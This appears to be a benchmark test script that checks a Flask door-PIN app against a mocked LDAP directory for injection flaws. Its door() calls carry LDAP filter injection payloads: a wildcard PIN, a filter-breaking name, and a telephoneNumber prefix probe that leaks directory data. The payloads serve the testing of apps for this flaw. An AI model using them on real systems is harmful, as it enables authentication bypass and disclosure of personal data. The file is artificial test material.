"""A door that opens without the PIN (steps 1 and 2), and one that tells who is there (step 3).

samples: bad 1, good 1
"""

from attack import attack, load, quoted, use
from ldap3 import Connection

Connection.kept = [
    {"uid": ["anna"], "doorPin": ["4711"], "telephoneNumber": ["030123"], "cn": ["Anna"]},
    {"uid": ["o*brien (night)"], "doorPin": ["0815"], "cn": ["O'Brien"]},
]
app = load(open_door=lambda: "open").app


def door(name, pin):
    """What the door does."""
    return app.test_client().post("/door", data={"name": name, "pin": pin}).text == "open"


use([door("anna", "4711"), door("anna", "0000"), door("eve", "4711")])
seen = [door("anna", "*"), door(quoted("anna)(|(uid=anna"), quoted("0)")), door("a*", "*"), door(quoted("anna)(telephoneNumber=030*"), "*")]
wrong = [door("b*", "*"), door("anna)(telephoneNumber=040*", "*")]
attack(all(seen), (seen, wrong))
if any(seen) != all(seen) or any(wrong):
    raise SystemExit("one of the ways works and another does not")
